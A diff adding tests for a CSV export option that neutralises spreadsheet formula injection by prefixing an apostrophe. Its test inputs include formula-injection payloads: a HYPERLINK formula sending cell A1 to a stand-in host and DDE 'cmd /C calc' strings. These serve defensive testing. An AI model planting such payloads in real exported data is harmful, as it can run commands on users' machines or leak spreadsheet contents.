@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import gzip
 import io
+import math
 from typing import Any
 
 import numpy as np
@@ -89,6 +90,61 @@ def test_any_name_survives(keys: list[str], names: list[str]) -> None:
     )
     assert table[0][4:] == [f"probability_{name}" for name in names]
     assert [(row[0], *row[2:4]) for row in table[1:]] == [(f"v/{key}", *names) for key in keys]
+
+
+FORMULAS = (
+    '=HYPERLINK("http://h/?"&A1,"click")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "＝1+1",
+    "-",
+    "+",
+)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_spreadsheet_takes_no_text_for_a_formula(formula: str) -> None:
+    """An apostrophe before it makes a text of it; by default the table holds what the documents hold."""
+    scores, given = two(0.25, 0.75), (vertex_set([formula, "b"], ("",)), ["train", "test"], [formula, "up"])
+    plain = rows_of(predictions_csv(*given, scores, [formula, "up"]))
+    safe = rows_of(predictions_csv(*given, scores, [formula, "up"], spreadsheet_safe=True))
+    assert [row[2] for row in plain[1:]] == [formula, "up"]
+    assert [row[2] for row in safe[1:]] == [f"'{formula}", "up"]
+    assert [row[3] for row in safe[1:]] == [f"'{formula}", "up"]
+    assert plain[0] == safe[0] == ["_id", "part", "label", "prediction", f"probability_{formula}", "probability_up"]
+    assert [row[4:] for row in safe] == [row[4:] for row in plain]
+
+
+@given(st.lists(st.text(st.sampled_from("=+-@'\t\r\n ＝") | st.characters(codec="utf-8")), min_size=1, max_size=4))
+def test_the_apostrophe_can_be_cut_off_again(labels: list[str]) -> None:
+    """One at the beginning of a text, and the text is as the documents hold it; none begins like a formula before."""
+    vertices, scores = vertex_set([f"k{number}" for number, _ in enumerate(labels)]), two(*[0.5] * len(labels))
+    table = rows_of(
+        predictions_csv(vertices, ["train"] * len(labels), labels, scores, ["a", "b"], spreadsheet_safe=True)
+    )
+    cells = [row[2] for row in table[1:]]
+    assert [cell.removeprefix("'") for cell in cells] == labels
+    assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@") and not _is_number(cell)]
+
+
+def _is_number(text: str) -> bool:
+    try:
+        return bool(text) and math.isfinite(float(text))
+    except ValueError:
+        return False
+
+
+@pytest.mark.parametrize("label", ["-1", "+0.5", "-1.5e-9", "-.5"])
+def test_a_negative_number_is_no_formula(label: str) -> None:
+    """Neither as a label nor as a prediction."""
+    given = vertex_set(["a", "b"]), ["val", "none"], [label, ""], np.array([-1.5, 2.0]), None
+    assert predictions_csv(*given, spreadsheet_safe=True) == predictions_csv(*given)
 
 
 def test_equal_predictions_give_equal_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
